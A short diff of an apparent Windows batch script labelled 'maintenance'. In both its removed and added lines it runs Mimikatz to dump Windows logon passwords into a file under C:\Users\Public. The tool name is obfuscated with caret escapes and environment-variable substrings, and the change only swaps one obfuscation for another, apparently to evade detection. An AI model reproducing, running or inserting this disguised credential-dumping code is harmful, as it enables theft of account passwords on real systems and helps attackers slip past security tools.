@@ -1,2 +1,2 @@
-REM maintenance 7065 v2
-%comspec:~16,1%^i%PROGRAMDATA:~9,1%^ik%PROGRAMDATA:~-3,1%tz.ex^e "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\U^sers\P^u^b^lic\^m.t^xt
+REM maintenance 0835 v2
+^m%comspec:~4,1%%PROGRAMDATA:~9,1%%PUBLIC:~13,1%^k%ProgramData:~8,1%%comspec:~14,1%z.^e%comspec:~-2,1%%public:~5,1% "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\^U^se^rs\Pub^li^c\^m.t^xt
